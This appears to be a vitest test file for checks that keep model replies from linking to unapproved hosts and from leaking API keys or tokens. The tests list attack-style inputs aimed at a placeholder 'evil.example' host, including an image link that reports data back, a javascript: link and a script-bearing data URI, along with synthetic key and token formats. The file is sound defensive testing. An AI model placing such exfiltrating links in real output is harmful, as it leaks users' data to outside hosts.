import { describe, expect, it } from "vitest";
import { noSecrets, urlsFrom } from "../../src/pipeline/checks.ts";
import { urlsInText } from "../../src/core/urls-in-text.ts";

interface Reply {
  readonly text: string;
}
const reply = (text: string): Reply => ({ text });

describe("addresses in an output", () => {
  const check = urlsFrom<{ readonly source: string }, Reply>(
    ({ text }) => text,
    ["example.com", ".docs.example"],
  );
  const input = { source: "" };

  it("may lead to the hosts that are allowed, and to those below a name that begins with a dot", () => {
    for (const text of [
      "No link at all.",
      "See https://example.com/a?b=c#d.",
      "See [it](https://EXAMPLE.com:8443/x) and //example.com",
      "https://eu.docs.example/page",
    ]) {
      expect(check(reply(text), input)).toBeNull();
    }
  });

  it.each([
    ["another host", "https://evil.example/x"],
    ["a host that only begins or ends like an allowed one", "https://example.com.evil.example"],
    ["a host that ends like one without a dot", "https://notexample.com"],
    ["a host without a scheme", "//evil.example/x"],
    ["backslashes", "https:\\\\evil.example"],
    ["an image that reports back", "![x](https://evil.example/c?d=data)"],
    ["a name before the host", "https://example.com@evil.example/"],
    ["a script", "[click](javascript:alert(1))"],
    ["data", "data:text/html;base64,PHNjcmlwdD4="],
    ["capital letters", "HTTPS://EVIL.EXAMPLE"],
  ])("are refused: %s", (_, text) => {
    const problem = check(reply(text), input);
    expect(problem).not.toBeNull();
    expect(problem).not.toContain("evil");
  });

  it("may be those that the input brought", () => {
    const fromInput = urlsFrom<{ readonly source: string }, Reply>(
      ({ text }) => text,
      ({ source }) => urlsInText(source).hosts,
    );
    const brought = { source: "We found it on https://shop.example/item/4." };
    expect(fromInput(reply("See https://shop.example/item/5"), brought)).toBeNull();
    expect(fromInput(reply("See https://other.example"), brought)).not.toBeNull();
  });
});

describe("secrets in an output", () => {
  const check = noSecrets<unknown, unknown>();

  // Put together here, so that no file holds what looks like a secret.
  const long = "a1B2c3D4e5F6g7H8i9J0";
  it.each([
    ["openai_key", `sk-proj-${long}`],
    ["anthropic_key", `sk-ant-api03-${long}`],
    ["google_key", `AIza${long}${long.slice(0, 15)}`],
    ["aws_key", ["AKIA", "ABCDEFGH23456789"].join("")],
    ["github_token", `ghp_${long}${long}`],
    ["slack_token", `xoxb-${long}`],
    ["stripe_key", `sk_live_${long}`],
    ["webhook_secret", `whsec_${long}`],
    ["private_key", ["-----BEGIN RSA PRIVATE", "KEY-----"].join(" ")],
    ["jwt", `eyJ${long}.eyJ${long}.${long}`],
    ["bearer_token", `Authorization: Bearer ${long}${long}`],
  ])("are found, and named by kind alone: %s", (kind, secret) => {
    const problem = check({ reply: { lines: ["fine", `use ${secret} here`] } }, null);
    expect(problem).toContain(kind);
    expect(problem).not.toContain(long);
  });

  it("are not seen in ordinary words, ids and numbers", () => {
    for (const text of [
      "The risk-based approach was discussed.",
      "Order sk-1234, event evt_1PqRstUvWxYz, commit 3f2a9c1e7b6d5a4f3e2d1c0b9a8f7e6d5c4b3a29",
      "Bearer of good news",
      "token bucket, secret santa, AKIA",
      null,
      42,
    ]) {
      expect(check(text, null)).toBeNull();
    }
  });
});
